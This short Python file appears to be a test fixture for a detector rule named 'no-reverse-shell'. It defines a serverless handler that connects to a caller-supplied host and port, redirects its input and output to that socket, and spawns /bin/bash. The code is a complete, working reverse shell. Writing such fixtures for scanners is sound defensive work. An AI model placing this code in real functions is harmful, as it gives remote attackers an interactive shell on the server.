import json
import os
import pty
import socket


def handler(event, context):
    target = json.loads(event["body"])
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((target["host"], int(target["port"])))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    # expect: code/no-reverse-shell
    pty.spawn("/bin/bash")
    return {"statusCode": 200, "body": "done"}
